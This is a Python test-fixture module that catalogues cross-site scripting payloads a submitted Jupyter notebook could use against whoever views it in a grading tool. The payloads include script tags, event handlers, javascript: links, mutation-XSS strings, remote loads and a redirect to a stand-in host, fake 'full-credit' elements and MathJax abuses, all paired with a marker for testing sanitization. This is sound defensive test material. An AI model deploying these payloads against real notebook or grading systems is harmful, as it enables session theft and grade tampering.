"""The gallery of what a submission may try in the browser of whoever looks at it.

Each trick calls ``pwn`` with its own name, or holds that name where a page would take it
for its own. Every one is live in a page that is made without our cleaning, unless it says
that nbconvert has always shown it as text.
"""

from __future__ import annotations

from dataclasses import dataclass

MARKDOWN, RAW, CODE = "markdown", "raw", "code"


@dataclass(frozen=True)
class Trick:
    """One attempt.

    Attributes
    ----------
    name : str
    kind : str
        The type of the cell.
    source : str
        Its text; ``NAME`` stands for the name.
    mark : str
        What shows in the page's structure when it works; the name if it is not given.
    live : bool
        Whether it works in a page made without our cleaning.
    """

    name: str
    kind: str
    source: str
    mark: str = ""
    live: bool = True

    @property
    def text(self) -> str:
        """Return the source with the name in it."""
        return self.source.replace("NAME", self.name)

    @property
    def sign(self) -> str:
        """Return what to look for."""
        return self.mark.replace("NAME", self.name) or self.name


def shown(name: str, kind: str, data: str, mark: str = "", live: bool = True) -> Trick:
    """Make a cell whose output holds data of any kind."""
    data = {kind.replace("NAME", name): data.replace("NAME", name)}
    cell = f"from IPython.display import display\ndisplay({data!r}, raw=True)"
    return Trick(name, CODE, cell, mark, live)


X = "pwn('NAME')"
IMG = f'<img src="x" onerror="{X}">'
HTML = {
    "script": f"<script>{X}</script>",
    "script-from-elsewhere": "<script src='https://elsewhere.example/NAME.js'></script>",
    "onerror": f'<img src="nothing.png" onerror="{X}">',
    "onload-of-svg": f'<svg onload="{X}"></svg>',
    "ontoggle": f'<details open ontoggle="{X}">x</details>',
    "onfocus": f'<input autofocus onfocus="{X}">',
    "onmouseover": f'<b onmouseover="{X}">hover</b>',
    "ON-in-capitals": f'<IMG SRC=nothing OnErRoR="{X}">',
    "slash-for-space": f'<div><img/src="nothing"/onerror="{X}"></div>',
    "animation": "<style>@keyframes k{}</style>"
    f'<p style="animation-name:k" onanimationstart="{X}">x',
    "a-javascript": f'<a href="javascript:{X}">link</a>',
    "a-javascript-entity": f'<a href="jav&#x0A;ascript&colon;{X}">link</a>',
    "a-data": "<a href=\"data:text/html,<script>pwn('NAME')</script>\">link</a>",
    "iframe": "<iframe src=\"javascript:parent.pwn('NAME')\"></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.pwn('NAME')</script>\"></iframe>",
    "object": "<object data=\"data:text/html,<script>parent.pwn('NAME')</script>\"></object>",
    "embed": "<embed src=\"javascript:pwn('NAME')\">",
    "form": f'<form action="javascript:{X}"><button>press</button></form>',
    "formaction": "<form id=NAME></form>"
    f'<button form=NAME formaction="javascript:{X}">press</button>',
    "svg-a": f'<svg><a href="javascript:{X}"><text y="20">link</text></a></svg>',
    "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{X}"/>'
    '<text y="20">NAME</text></a></svg>',
    "svg-script": f"<svg><script>{X}</script></svg>",
    "math-href": f'<math><mtext href="javascript:{X}">link</mtext></math>',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={X}>"></noscript>',
    "mutation": "<form><math>NAME<mtext></form><form><mglyph>"
    f'<style></math><img src=x onerror="{X}">',
    "template": f'<template shadowrootmode="open"><img src=x onerror="{X}"></template>',
    "video": f'<video><source onerror="{X}"></video>',
    "audio": f'<audio src=x onerror="{X}"></audio>',
    "marquee": f'<marquee onstart="{X}">x</marquee>',
    "popover": "<button popovertarget=NAME>press</button>"
    f'<div id=NAME popover onbeforetoggle="{X}">x</div>',
    "srcset": "<img srcset='https://elsewhere.example/NAME 1x' src=''>",
    "picture-from-elsewhere": "<img src='https://elsewhere.example/NAME.png'>",
    "picture-of-the-server": "<img src='/hub/logout?NAME'>",
    "picture-of-svg": "<img src='data:image/svg+xml,%3Csvg/NAME'>",
    "style": "<style>body { display: none } /* NAME */</style>",
    "style-from-elsewhere": "<link rel=stylesheet href='https://elsewhere.example/NAME.css'>",
    "style-attribute": "<p style=\"position:fixed;inset:0;background:url('https://elsewhere.example/NAME')\">x</p>",
    "refresh": "<meta http-equiv=refresh content='900;url=https://elsewhere.example/NAME'>",
    "base": "<base target=NAME>",
    "button-of-the-page": '<a class="full-credit btn">NAME</a>',
    "cover": '<div class="modal-backdrop in">NAME</div>',
    "tooltip": f'<a data-toggle="tooltip" data-template="<img src=x onerror={X}>">NAME</a>',
    "link-for-the-page": '<a data-link="NAME">link</a>',
    "textarea": "<textarea>NAME",
    "comment-that-ends-early": f"<!--><img src=x onerror={X}>-->",
    "end-of-container": "</div></div></div></div></div><p id='outside-NAME'>x</p>",
    "id-of-a-box": '<span id="NAME">x</span>',
    "contenteditable": "<p contenteditable onbeforeinput=\"pwn('NAME')\">x</p>",
    "link-to-own-page": '<a href="NAME.html">link</a>',
    "link-to-own-drawing": '<a href="NAME.svg">link</a>',
    "link-to-the-server": '<a href="/formgrader/NAME">link</a>',
    "link-without-scheme": '<a href="//elsewhere.example/NAME">link</a>',
    "mathjax-configuration": "<script type='text/x-mathjax-config'>pwn('NAME')</script>",
    "mathjax-script": "<script type='math/tex'>\\href{javascript:pwn('NAME')}{x}</script>",
}

TRICKS = [
    *(Trick(f"markdown-{name}", MARKDOWN, text) for name, text in HTML.items()),
    *(shown(f"output-{name}", "text/html", text) for name, text in HTML.items()),
    Trick("link", MARKDOWN, "[link](javascript:pwn('NAME'))"),
    Trick("link-in-angles", MARKDOWN, "[link](<javascript:pwn('NAME')>)"),
    Trick("link-by-reference", MARKDOWN, "[link][there]\n\n[there]: javascript:pwn('NAME')"),
    Trick("link-behind-files", MARKDOWN, "[link](files/javascript:pwn('NAME'))"),
    Trick("link-behind-two-files", MARKDOWN, "[link](files/files/javascript:pwn('NAME'))"),
    Trick("link-behind-files-in-html", MARKDOWN, "<a href=\"/files/javascript:pwn('NAME')\">x</a>"),
    Trick("picture-behind-files", MARKDOWN, "![x](files//elsewhere.example/NAME.png)"),
    Trick("vbscript", MARKDOWN, "[link](vbscript:NAME)"),
    Trick("mermaid", MARKDOWN, f"```mermaid\n{IMG}\n```"),
    Trick("heading", MARKDOWN, f"# {IMG}"),
    Trick("heading-takes-a-box", MARKDOWN, "# test_rnn_forward", mark="id=test_rnn_forward"),
    Trick("table", MARKDOWN, f"| a |\n|---|\n| {IMG} |"),
    Trick("raw-class", RAW, '<a class="full-credit btn">NAME</a>'),
    Trick("raw-id", RAW, '<a id="NAME">x</a>'),
    shown("javascript", "application/javascript", "pwn('NAME')"),
    shown("javascript-twice-named", "application/javascript; x", "pwn('NAME')", live=False),
    shown("drawing", "image/svg+xml", "<svg><script>pwn('NAME')</script></svg>", live=False),
    shown("markdown-of-an-output", "text/markdown", IMG),
    shown("link-of-an-output", "text/markdown", "[link](javascript:pwn('NAME'))"),
    shown("mermaid-of-an-output", "text/vnd.mermaid", IMG, live=False),
    shown("kind-of-output", f"x/{IMG}", "x", live=False),
    shown("picture-that-is-none", "image/png", f'x">{IMG}', mark="onerror=pwn('NAME')", live=False),
    shown("latex", "text/latex", IMG, live=False),
    shown("plain", "text/plain", IMG, live=False),
    shown("json", "application/json", IMG, live=False),
    # What nbconvert has always shown as text.
    Trick("picture-text", MARKDOWN, "![x\" onerror=\"pwn('NAME')](nothing.png)", live=False),
    Trick(
        "link-title", MARKDOWN, '[x](https://a.example "a\\" onclick=pwn(\'NAME\')")', live=False
    ),
    Trick("fence-language", MARKDOWN, f'```x">{IMG}\ncode\n```', live=False),
    Trick("formula", MARKDOWN, f"$${IMG}$$", live=False),
    Trick("formula-environment", MARKDOWN, f"\\begin{{a}}{IMG}\\end{{a}}", live=False),
    Trick("code-span", MARKDOWN, f"`{IMG}`", live=False),
    Trick("raw", RAW, IMG, live=False),
    Trick("code", CODE, f"# {IMG}", live=False),
    Trick("stdout", CODE, f"print({IMG!r})", live=False),
    Trick("stderr", CODE, f"import sys\nprint({IMG!r}, file=sys.stderr)", live=False),
    Trick("ansi", CODE, f"print('\\x1b[31;' + {IMG!r} + 'm\\x1b[1m' + {IMG!r})", live=False),
    Trick("error-text", CODE, f"raise ValueError({IMG!r})", live=False),
    Trick("error-name", CODE, f"raise type({IMG!r}, (Exception,), {{}})('x')", live=False),
    Trick("result", CODE, f"type('A', (), {{'__repr__': lambda self: {IMG!r}}})()", live=False),
    Trick("file-name", CODE, f"exec(compile('1 / 0', {IMG!r}, 'exec'))", live=False),
]

# Of these nbconvert by itself makes no page at all: the formgrader says "error 500", and
# the student gets no feedback.
BREAKING = [
    shown("widget", "application/vnd.jupyter.widget-view+json", "pwn('NAME')"),
    Trick("missing-attachment", MARKDOWN, "# Pasted\n\n![x](attachment:NAME.png)"),
    Trick("missing-by-reference", MARKDOWN, "![x][y]\n\n[y]: attachment:NAME.png"),
]

# MathJax runs these where its Safe extension is not loaded.
FORMULAS = {
    "href": r"$\href{javascript:pwn('href')}{link}$",
    "href-capital": r"$\href{JavaScript:pwn('href-capital')}{link}$",
    "style": r"$\style{position:fixed;inset:0;background:red}{x}$",
    "class": r"$\class{full-credit}{x}$",
    "cssId": r"$\cssId{test_rnn_forward}{x}$",
    "token": r"$\mmlToken{mi}[href='javascript:pwn(1)']{x}$",
    "require": r"$\require{autoload-all}x$",
    "bbox": r"$\bbox[position:fixed;inset:0;background:red]{x}$",
    "unicode": r"$\unicode[x;position:fixed]{x41}$",
    "cover": r"$\raise{30em}{\kern{-60em}\rule{200em}{80em}}$",
}
